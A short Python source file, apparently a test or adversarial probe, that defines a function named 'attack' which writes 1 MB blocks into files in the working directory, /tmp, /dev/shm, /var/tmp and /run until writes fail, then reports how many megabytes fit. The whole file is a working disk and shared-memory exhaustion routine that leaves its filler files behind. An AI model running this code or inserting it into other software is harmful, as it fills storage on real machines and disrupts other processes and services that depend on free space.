import os


def attack(n):
    """Fills what it may write to, and tells how many MB there was room for."""
    total = 0
    block = b"x" * (1 << 20)
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run"):
        for number in range(40):
            try:
                with open(os.path.join(folder, f"fill-{number}"), "wb", buffering=0) as file:
                    for _ in range(64):
                        if file.write(block) != len(block):
                            raise OSError("full")
                        total += 1
            except OSError:
                break
    return total
